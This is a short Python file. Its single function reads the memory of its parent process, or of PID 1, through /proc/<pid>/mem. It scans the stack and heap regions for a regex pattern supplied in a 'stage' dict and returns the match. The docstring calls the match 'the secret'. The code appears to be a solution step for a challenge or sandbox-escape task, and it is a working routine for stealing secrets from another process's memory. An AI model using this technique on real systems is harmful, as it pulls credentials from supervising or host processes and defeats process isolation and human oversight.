"""Reads the secret out of the memory of the process that started it."""

import os
import re
from typing import Any


def f(stage: dict[str, Any]) -> str:
    for pid in (os.getppid(), 1):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                for line in maps:
                    if "[stack]" not in line and "[heap]" not in line:
                        continue
                    begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(begin)
                    found = re.search(stage["pattern"].encode(), memory.read(end - begin))
                    if found:
                        return found[0].decode()
        except OSError:
            continue
    return ""
